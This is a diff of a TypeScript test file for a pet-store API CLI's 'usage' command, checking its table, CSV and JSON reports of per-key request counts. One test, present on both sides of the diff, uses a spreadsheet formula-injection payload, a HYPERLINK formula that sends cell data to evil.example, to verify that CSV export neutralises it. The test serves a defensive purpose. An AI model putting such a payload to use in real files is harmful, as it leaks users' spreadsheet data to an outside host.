@@ -1,8 +1,7 @@
-import { beforeAll, describe, expect, test } from "bun:test";
+import { beforeAll, expect, test } from "bun:test";
 import type { KeyCounts } from "../../src/domain/usage-history.ts";
-import { openSqlite } from "../../src/store/sqlite/store.ts";
 import { cleanUpAfterAll, InProcessCli } from "./cli.ts";
-import { createKey, paths } from "./keys.ts";
+import { createKey, withStores } from "./keys.ts";
 
 cleanUpAfterAll();
 
@@ -24,12 +23,11 @@ async function addUsage(
   cli: InProcessCli,
   ...batches: [hoursAgo: number, ...keys: KeyCounts[]][]
 ): Promise<void> {
-  const { usageHistory, close } = openSqlite(paths(cli).store);
-  for (const [i, [hoursAgo, ...keys]] of batches.entries()) {
+  for (const [hoursAgo, ...keys] of batches) {
     const hour = NOON - hoursAgo * HOUR_MS;
-    await usageHistory.addUsage({ writer: crypto.randomUUID(), sequence: i + 1, hour, keys });
+    const batch = { writer: crypto.randomUUID(), sequence: 1, hour, keys };
+    await withStores(cli, ({ usageHistory }) => usageHistory.addUsage(batch));
   }
-  await close();
 }
 
 /** Has keys 1 and 2, the second with a name that CSV has to quote. */
@@ -41,33 +39,32 @@ beforeAll(async () => {
   await addUsage(cli, [0, counts(1, small), counts(2)], [25, counts(2, small)], [31 * 24, counts(1)]);
 });
 
-describe("petstore usage", () => {
-  test("all keys: a table of sums over the last 30 days, most requests first", async () => {
-    expect((await cli.run("usage")).out).toBe(
-      `ID     NAME            PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
+test("all keys: a table of sums over the last 30 days, most requests first", async () => {
+  expect(await cli.out("usage")).toBe(
+    `ID     NAME            PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
 2      the "big", one  pro      1,202       30       4       7  2026-11-15T12:00:00Z
 1      app             free         2        0       0       2  2026-11-15T12:00:00Z
 Total                           1,204       30       4       9
 `,
-    );
-    const big = { keyId: 2, name: 'the "big", one', plan: "pro" };
-    const app = { keyId: 1, name: "app", plan: "free" };
-    const lastUsedAt = "2026-11-15T12:00:00.000Z";
-    expect(await cli.json<unknown>("usage --since 24h")).toEqual([
-      { ...big, admitted: 1_200, limited: 30, banned: 4, errors: 5, lastUsedAt },
-      { ...app, admitted: 2, limited: 0, banned: 0, errors: 2, lastUsedAt },
-    ]);
-    expect((await cli.run("usage --by key --csv")).out).toBe(
-      `key_id,name,plan,admitted,limited,banned,errors,last_used_at
+  );
+  const big = { keyId: 2, name: 'the "big", one', plan: "pro" };
+  const app = { keyId: 1, name: "app", plan: "free" };
+  const lastUsedAt = "2026-11-15T12:00:00.000Z";
+  expect(await cli.json<unknown>("usage --since 24h")).toEqual([
+    { ...big, admitted: 1_200, limited: 30, banned: 4, errors: 5, lastUsedAt },
+    { ...app, admitted: 2, limited: 0, banned: 0, errors: 2, lastUsedAt },
+  ]);
+  expect(await cli.out("usage --by key --csv")).toBe(
+    `key_id,name,plan,admitted,limited,banned,errors,last_used_at
 2,"the ""big"", one",pro,1202,30,4,7,2026-11-15T12:00:00.000Z
 1,app,free,2,0,0,2,2026-11-15T12:00:00.000Z
 `,
-    );
-  });
+  );
+});
 
-  test("one key: a table by day, and one by operation", async () => {
-    expect((await cli.run("usage 2")).out).toBe(
-      `DAY         ADMITTED  LIMITED  BANNED  ERRORS
+test("one key: a table by day, and one by operation", async () => {
+  expect(await cli.out("usage 2")).toBe(
+    `DAY         ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-14         2        0       0       2
 2026-11-15     1,200       30       4       5
 Total          1,202       30       4       7
@@ -76,47 +73,47 @@ OPERATION  ADMITTED  LIMITED  BANNED  ERRORS
 listPets      1,195        0       0       0
 none              7       30       4       7
 `,
-    );
-    expect((await cli.run("usage 2 --by hour")).out).toStartWith(
-      `HOUR               ADMITTED  LIMITED  BANNED  ERRORS
+  );
+  expect(await cli.out("usage 2 --by hour")).toStartWith(
+    `HOUR               ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-15T12:00Z     1,200       30       4       5
 Total `,
-    );
-    expect((await cli.run("usage 1 --by key --since 60d")).out).toContain("\n1      app   free     1,202 ");
-  });
+  );
+  expect(await cli.out("usage 1 --by key --since 60d")).toContain("\n1      app   free     1,202 ");
+});
 
-  test("all keys by day: the sums over the keys", async () => {
-    expect((await cli.run("usage --by day --since 2026-11-15")).out).toStartWith(
-      `DAY         ADMITTED  LIMITED  BANNED  ERRORS
+test("all keys by day: the sums over the keys", async () => {
+  expect(await cli.out("usage --by day --since 2026-11-15")).toStartWith(
+    `DAY         ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-15     1,202       30       4       7
 `,
-    );
-  });
+  );
+});
 
-  test("--operation: the keys that still use an operation, and when", async () => {
-    const cli = new InProcessCli();
-    for (const name of ["new", "old", "older"]) await createKey(cli, "--name", name, "--plan", "free");
-    const getPet = (admitted: number, errors = 0) => ({
-      byOperation: [
-        { operation: "listPets", admitted: 7, errors: 0 },
-        { operation: "getPet", admitted, errors },
-      ] as const,
-    });
-    await addUsage(
-      cli,
-      [0, counts(1), counts(2, getPet(3)), counts(3, getPet(4, 1))],
-      [25, counts(3, getPet(2))],
-      [31 * 24, counts(1, getPet(9))],
-    );
-    expect((await cli.run("usage --operation getPet")).out).toBe(
-      `ID     NAME   PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
+test("--operation: the keys that still use an operation, and when", async () => {
+  const cli = new InProcessCli();
+  for (const name of ["new", "old", "older"]) await createKey(cli, "--name", name, "--plan", "free");
+  const getPet = (admitted: number, errors = 0) => ({
+    byOperation: [
+      { operation: "listPets", admitted: 7, errors: 0 },
+      { operation: "getPet", admitted, errors },
+    ] as const,
+  });
+  await addUsage(
+    cli,
+    [0, counts(1), counts(2, getPet(3)), counts(3, getPet(4, 1))],
+    [25, counts(3, getPet(2))],
+    [31 * 24, counts(1, getPet(9))],
+  );
+  expect(await cli.out("usage --operation getPet")).toBe(
+    `ID     NAME   PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
 3      older  free         6        0       0       1  2026-11-15T12:00:00Z
 2      old    free         3        0       0       0  2026-11-15T12:00:00Z
 Total                      9        0       0       1
 `,
-    );
-    expect((await cli.run("usage 3 --operation getPet")).out).toBe(
-      `DAY         ADMITTED  LIMITED  BANNED  ERRORS
+  );
+  expect(await cli.out("usage 3 --operation getPet")).toBe(
+    `DAY         ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-14         2        0       0       0
 2026-11-15         4        0       0       1
 Total              6        0       0       1
@@ -124,55 +121,54 @@ Total              6        0       0       1
 OPERATION  ADMITTED  LIMITED  BANNED  ERRORS
 getPet            6        0       0       1
 `,
-    );
-    expect((await cli.run("usage --operation getPet --csv --since 2026-11-15")).out).toBe(
-      `key_id,name,start,operation,admitted,limited,banned,errors
+  );
+  expect(await cli.out("usage --operation getPet --csv --since 2026-11-15")).toBe(
+    `key_id,name,start,operation,admitted,limited,banned,errors
 2,old,2026-11-15T00:00:00.000Z,getPet,3,0,0,0
 3,older,2026-11-15T00:00:00.000Z,getPet,4,0,0,1
 `,
-    );
-    expect((await cli.run("usage --operation placeOrder")).out).toStartWith("There were no requests from ");
-    expect((await cli.run("usage --operation getpets")).code).toBe(2);
-  });
+  );
+  expect(await cli.out("usage --operation placeOrder")).toStartWith("There were no requests from ");
+  expect((await cli.run("usage --operation getpets")).code).toBe(2);
+});
 
-  test("--csv: one row per key, day and operation", async () => {
-    expect((await cli.run("usage --csv --since 2026-11-14 --until 2026-11-15")).out).toBe(
-      `key_id,name,start,operation,admitted,limited,banned,errors
+test("--csv: one row per key, day and operation", async () => {
+  expect(await cli.out("usage --csv --since 2026-11-14 --until 2026-11-15")).toBe(
+    `key_id,name,start,operation,admitted,limited,banned,errors
 1,app,2026-11-15T00:00:00.000Z,none,2,0,0,2
 2,"the ""big"", one",2026-11-14T00:00:00.000Z,none,2,0,0,2
 2,"the ""big"", one",2026-11-15T00:00:00.000Z,listPets,1195,0,0,0
 2,"the ""big"", one",2026-11-15T00:00:00.000Z,none,5,30,4,5
 `,
-    );
-  });
+  );
+});
 
-  test("--csv: a name that a spreadsheet would calculate has an apostrophe before it", async () => {
-    const cli = new InProcessCli();
-    await createKey(cli, "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")', "--plan", "free");
-    for (const name of ["+1", "@SUM(1)", "1=1"]) await createKey(cli, "--name", name, "--plan", "free");
-    await createKey(cli, "--name=-1", "--plan", "free");
-    await addUsage(cli, [0, ...[1, 2, 3, 4, 5].map((id) => counts(id))]);
-    const { out } = await cli.run("usage --by key --csv");
-    expect(out).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",free,`);
-    expect(out).toContain("2,'+1,free,");
-    expect(out).toContain("3,'@SUM(1),free,");
-    expect(out).toContain("4,1=1,free,");
-    expect(out).toContain("5,'-1,free,");
-  });
+test("--csv: a name that a spreadsheet would calculate has an apostrophe before it", async () => {
+  const cli = new InProcessCli();
+  await createKey(cli, "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")', "--plan", "free");
+  for (const name of ["+1", "@SUM(1)", "1=1"]) await createKey(cli, "--name", name, "--plan", "free");
+  await createKey(cli, "--name=-1", "--plan", "free");
+  await addUsage(cli, [0, ...[1, 2, 3, 4, 5].map((id) => counts(id))]);
+  const { out } = await cli.run("usage --by key --csv");
+  expect(out).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",free,`);
+  expect(out).toContain("2,'+1,free,");
+  expect(out).toContain("3,'@SUM(1),free,");
+  expect(out).toContain("4,1=1,free,");
+  expect(out).toContain("5,'-1,free,");
+});
 
-  test("--json: one object per interval and operation", async () => {
-    const yesterday = { keyId: 2, start: "2026-11-14T11:00:00.000Z" };
-    const today = { keyId: 2, start: "2026-11-15T12:00:00.000Z" };
-    expect(await cli.json<unknown>("usage 2 --by hour --since 26h")).toEqual([
-      { ...yesterday, operation: "none", admitted: 2, limited: 0, banned: 0, errors: 2 },
-      { ...today, operation: "listPets", admitted: 1_195, limited: 0, banned: 0, errors: 0 },
-      { ...today, operation: "none", admitted: 5, limited: 30, banned: 4, errors: 5 },
-    ]);
-  });
+test("--json: one object per interval and operation", async () => {
+  const yesterday = { keyId: 2, start: "2026-11-14T11:00:00.000Z" };
+  const today = { keyId: 2, start: "2026-11-15T12:00:00.000Z" };
+  expect(await cli.json<unknown>("usage 2 --by hour --since 26h")).toEqual([
+    { ...yesterday, operation: "none", admitted: 2, limited: 0, banned: 0, errors: 2 },
+    { ...today, operation: "listPets", admitted: 1_195, limited: 0, banned: 0, errors: 0 },
+    { ...today, operation: "none", admitted: 5, limited: 30, banned: 4, errors: 5 },
+  ]);
+});
 
-  test("a key that does not exist", async () => {
-    const { code, err } = await cli.run("usage 9");
-    expect(code).toBe(1);
-    expect(err).toStartWith("key 9 does not exist in production (data: ");
-  });
+test("usage of a key that does not exist is a failure", async () => {
+  const { code, err } = await cli.run("usage 9");
+  expect(code).toBe(1);
+  expect(err).toStartWith("key 9 does not exist in production (data: ");
 });
